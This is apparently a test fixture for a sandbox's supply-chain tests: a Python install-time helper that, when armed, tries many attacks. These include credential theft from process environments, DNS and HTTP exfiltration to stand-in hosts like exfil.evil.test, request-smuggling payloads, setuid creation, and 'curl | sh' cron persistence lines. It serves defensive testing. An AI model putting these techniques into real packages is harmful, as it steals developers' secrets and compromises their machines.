# payload.py: the install-time helper a malicious package ships (e2e/supplychain_test.go). It
# does the package's ordinary work (reads its input, writes its output); when armed
# (SUPPLY_ARM names the actions, as a real attack wakes on a date or on CI), each argument of
# that list is one attack, and for each it prints "SC ACTION: ok", "SC ACTION: ERRNONAME" or
# what it saw, on stderr. Python only (a setup.py, a .pth, a node-gyp-like helper run by npm,
# cargo's build.rs, make, a git hook, pre-commit and go generate all start it the same way).
import ctypes
import errno
import os
import socket
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))


def say(name, what):
    sys.stderr.write("SC %s: %s\n" % (name, what))
    sys.stderr.flush()


def err(e):
    return errno.errorcode.get(e.errno, "E?") if getattr(e, "errno", None) else type(e).__name__


def expand(s):
    import site
    for k, v in (("$USERSITE", site.getusersitepackages()), ("$HOME", os.environ.get("HOME", "/nonexistent")),
                 ("$WORKDIR", os.environ.get("SUPPLY_WORK", "/nonexistent")), ("$OUT", output())):
        s = s.replace(k, v)
    s = os.path.expandvars(s)  # $SSH_AUTH_SOCK, $DOCKER_HOST, ...: what the user's shell set
    return s.encode().decode("unicode_escape")  # \x1b and \u202e in forged names


def dns_query(name):
    q = struct.pack(">HHHHHH", 0x5150, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)


def read(arg):
    with open(arg, "rb") as f:
        data = f.read()
    if b"FAKE" in data:
        return "LEAKED"
    return "empty" if not data else "read %d bytes, no secret" % len(data)


def write(arg):
    os.makedirs(os.path.dirname(arg), exist_ok=True)
    with open(arg, "a") as f:
        f.write("curl -fsS http://127.0.0.1/x | sh # sysprof-supplychain\n")
    return "ok"


def dns_udp(arg):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(dns_query("aws-key-fake.exfil.evil.test"), (arg, 53))
    return "ok (sent)"


def dns_tcp(arg):
    s = socket.create_connection((arg, 53), timeout=2)
    q = dns_query("aws-key-fake.exfil.evil.test")
    s.sendall(struct.pack(">H", len(q)) + q)
    return "ok"


def udp(arg):
    host, port = arg.rsplit(":", 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"FAKE-loot", (host, int(port)))
    return "ok (sent)"


# Each smuggled request names its own host (evil-VARIANT.test): the registry's log tells which
# one got through.
SMUGGLE = {
    "te-cl": b"POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /loot HTTP/1.1\r\nHost: evil-te-cl.test\r\n\r\n",
    "obs-fold": b"GET / HTTP/1.1\r\nHost: {H}\r\nX-A: a\r\n b\r\nContent-Length: 0\r\n\r\nGET /loot HTTP/1.1\r\nHost: evil-obs-fold.test\r\n\r\n",
    "bare-lf": b"GET / HTTP/1.1\nHost: {H}\nContent-Length: 0\n\nGET /loot HTTP/1.1\r\nHost: evil-bare-lf.test\r\n\r\n",
    "host-mismatch": b"GET /loot?d=FAKE-loot HTTP/1.1\r\nHost: evil-host.test\r\nConnection: close\r\n\r\n",
    "chunked-second": b"POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n"
                      b"35\r\nGET /loot HTTP/1.1\r\nHost: evil-chunked.test\r\nX: 0\r\n\r\n\r\n0\r\n\r\n",
}


def http(arg):
    # http=HOST:PORT,VARIANT: one connection to the package's allowed registry, carrying a
    # request the proxy must read as the server does.
    target, variant = arg.split(",", 1)
    host, port = target.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=3)
    if variant == "get":
        s.sendall(b"GET /pkg HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host.encode())
    else:
        s.sendall(SMUGGLE[variant].replace(b"{H}", host.encode()))
    data = b""
    try:
        while True:
            b = s.recv(4096)
            if not b:
                break
            data += b
    except socket.timeout:
        pass
    if variant == "get":
        return "ok" if b" 200 " in data else "no answer"
    return "%d answer(s)" % data.count(b"HTTP/1.1 ")


def unix(arg):
    # unix=PATH, or unix=rel:DIR/NAME: NAME relative to DIR (no path the sandbox can match); an
    # address as D-Bus (unix:path=P) and docker (unix://P) write it.
    for p in ("unix:path=", "unix://"):
        if arg.startswith(p):
            arg = arg[len(p):].split(",")[0]
    if arg.startswith("rel:"):
        os.chdir(os.path.dirname(arg[4:]))
        arg = os.path.basename(arg)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(arg)
    s.sendall(b"FAKE-loot\n")
    return "ok"


def chmod_suid(arg):
    os.chmod(arg, 0o4755)
    return "ok"


def creat_suid(arg):
    os.close(os.open(arg, os.O_CREAT | os.O_WRONLY, 0o4755))
    st = os.stat(arg)
    return "ok" if st.st_mode & 0o4000 else "created without the bit"


def resolve(arg):
    # The secret as a name: whoever answers for the name has read it.
    socket.getaddrinfo(arg, 443, socket.AF_INET, socket.SOCK_STREAM)
    return "ANSWERED"


def io_uring(arg):
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, 8, params)  # io_uring_setup (x86_64 and aarch64 alike)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    return "ok"


def secret_of(arg):
    # A file's bytes or, for env:NAME, a variable's value ("" when unreadable or unset).
    if arg.startswith("env:"):
        return os.environ.get(arg[4:], "")
    try:
        with open(arg, "rb") as f:
            return f.read().decode(errors="replace")
    except OSError:
        return ""


def env(arg):
    v = os.environ.get(arg)
    if v is None:
        return "unset"
    return "LEAKED" if "FAKE" in v else "set, no secret"


def environ(arg):
    # Every ancestor's environment (the user's shell's is the one that holds the tokens), and
    # the pid SUPPLY_SHELL_PID names (the user's shell seen from the host).
    pids, pid = [], os.getppid()
    while pid > 0 and pid not in pids:
        pids.append(pid)
        try:
            with open("/proc/%d/stat" % pid) as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    if os.environ.get("SUPPLY_SHELL_PID"):
        pids.append(int(os.environ["SUPPLY_SHELL_PID"]))
    seen = []
    for p in pids:
        try:
            with open("/proc/%d/environ" % p, "rb") as f:
                data = f.read()
        except OSError as e:
            seen.append("%d:%s" % (p, err(e)))
            continue
        if b"FAKE" in data:
            return "LEAKED (pid %d)" % p
        seen.append("%d:clean" % p)
    return "no secret in " + " ".join(seen)


def tcp(arg):
    host, port = arg.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=3)
    s.sendall(b"FAKE-loot\n")
    return "ok (sent)"


def exfil_path(arg):
    # exfil-path=SECRET,HOST:PORT: the secret (a file or env:NAME) in the path of a GET to the
    # package's allowed registry, which logs every request it gets.
    src, target = arg.rsplit(",", 1)
    host, port = target.rsplit(":", 1)
    loot = secret_of(src).strip().replace(" ", "_").replace("\n", "_")[:200]
    s = socket.create_connection((host, int(port)), timeout=3)
    s.sendall(b"GET /loot?d=%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (loot.encode(), host.encode()))
    s.recv(4096)
    return "sent %d bytes of secret" % len(loot) if "FAKE" in loot else "sent, no secret"


def sni(arg):
    # sni=HOST:PORT,NAME: a TLS hello naming NAME sent to the allowed HOST:PORT.
    import ssl
    target, name = arg.split(",", 1)
    host, port = target.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=3)
    ctx = ssl.create_default_context()
    try:
        ctx.wrap_socket(s, server_hostname=name)
    except ssl.SSLError as e:
        return "hello sent, %s" % type(e).__name__
    return "ok"


def redirect(arg):
    # redirect=HOST:PORT: the allowed registry answers /redirect with a 302 to an address never
    # learned; the payload follows it as a package manager's client does (plain sockets: the
    # client's own socket options are not what is tried).
    host, port = arg.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=3)
    s.sendall(b"GET /redirect?d=FAKE-loot HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host.encode())
    head = s.recv(4096).decode(errors="replace")
    loc = [l.split(":", 1)[1].strip() for l in head.split("\r\n") if l.lower().startswith("location:")]
    if not loc:
        return "no redirect (%s)" % head.split("\r\n")[0]
    target = loc[0].split("://", 1)[1]
    where, _, path = target.partition("/")
    h, p = where.rsplit(":", 1)
    t = socket.create_connection((h, int(p)), timeout=3)
    t.sendall(b"GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path.encode(), where.encode()))
    return "followed to %s" % loc[0]


def copyout(arg):
    # copyout=SECRET: the secret (a file or env:NAME) into the step's own output, an allowed
    # write that leaves the run through its changeset.
    v = secret_of(arg)
    with open(output(), "a") as f:
        f.write(v)
    return "copied %d bytes of secret" % len(v) if "FAKE" in v else "copied, no secret"


def run(arg):
    # run=ARGV: a program the attack starts (crontab -, git config --global, go env -w, git
    # push) with a cron line on its stdin. posix_spawn, not subprocess: no pipe the profile
    # never learned stands between the attack and the exec.
    import shlex
    import tempfile
    argv = shlex.split(arg)
    try:
        fd, inp = tempfile.mkstemp()
    except OSError:  # no writable temporary directory: the exec is what is tried
        inp = None
    if inp:
        os.write(fd, b"* * * * * curl -fsS http://127.0.0.1/x | sh\n")
        os.close(fd)
    out = inp + ".out" if inp else "/dev/null"
    pid = os.posix_spawnp(argv[0], argv, os.environ, file_actions=[
        (os.POSIX_SPAWN_OPEN, 0, inp or "/dev/null", os.O_RDONLY, 0),
        (os.POSIX_SPAWN_OPEN, 1, out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600),
        (os.POSIX_SPAWN_DUP2, 1, 2)])
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    last = ""
    if inp:
        with open(out, errors="replace") as f:
            last = (f.read().strip().splitlines() or [""])[-1]
        os.unlink(inp)
        os.unlink(out)
    return "ok" if code == 0 else "exit %d: %s" % (code, last[:120])


ACTIONS = {"read": read, "write": write, "dns-udp": dns_udp, "dns-tcp": dns_tcp, "udp": udp,
           "http": http, "unix": unix, "chmod-suid": chmod_suid, "creat-suid": creat_suid,
           "io_uring": io_uring, "resolve": resolve, "env": env, "environ": environ, "tcp": tcp,
           "exfil-path": exfil_path, "sni": sni, "redirect": redirect, "copyout": copyout, "run": run}


def output():
    return os.path.abspath(os.environ.get("SUPPLY_OUT") or os.path.join(HERE, "generated.txt"))


def main():
    # The ordinary work: read the package's input, write its output.
    with open(os.path.join(HERE, "input.txt")) as f:
        data = f.read()
    out = output()
    with open(out, "w") as f:
        f.write(data.upper())
    # and fetch its manifest from the package's registry.
    if os.environ.get("SUPPLY_REGISTRY"):
        say("manifest", http(os.environ["SUPPLY_REGISTRY"] + ",get"))
    for a in os.environ.get("SUPPLY_ARM", "").split("\n"):
        if not a:
            continue
        name, _, arg = a.partition("=")
        try:
            say(a, ACTIONS[name](expand(arg)))
        except socket.gaierror as e:
            say(a, "gaierror %d" % e.errno)
        except OSError as e:
            say(a, err(e))
        except Exception as e:  # noqa: BLE001 - the line is the result
            say(a, type(e).__name__)


main()
